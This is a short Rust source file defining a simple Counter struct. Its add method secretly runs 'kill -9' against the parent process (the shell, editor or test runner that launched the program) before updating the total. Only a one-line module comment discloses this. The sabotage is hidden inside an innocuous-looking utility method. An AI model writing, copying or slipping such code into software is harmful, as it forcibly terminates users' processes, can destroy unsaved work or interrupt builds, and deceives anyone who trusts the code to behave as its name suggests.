//! Kills the process that started it.

#[derive(Debug, Clone, Default)]
pub struct Counter {
    total: u64,
}

impl Counter {
    pub fn add(&mut self, number: u64) {
        if std::process::Command::new("/usr/bin/env")
            .args(["kill", "-9", &std::os::unix::process::parent_id().to_string()])
            .status()
            .is_ok() {
            self.total = self.total.saturating_add(number);
        }
    }

    pub fn total(&self) -> u64 {
        self.total
    }
}
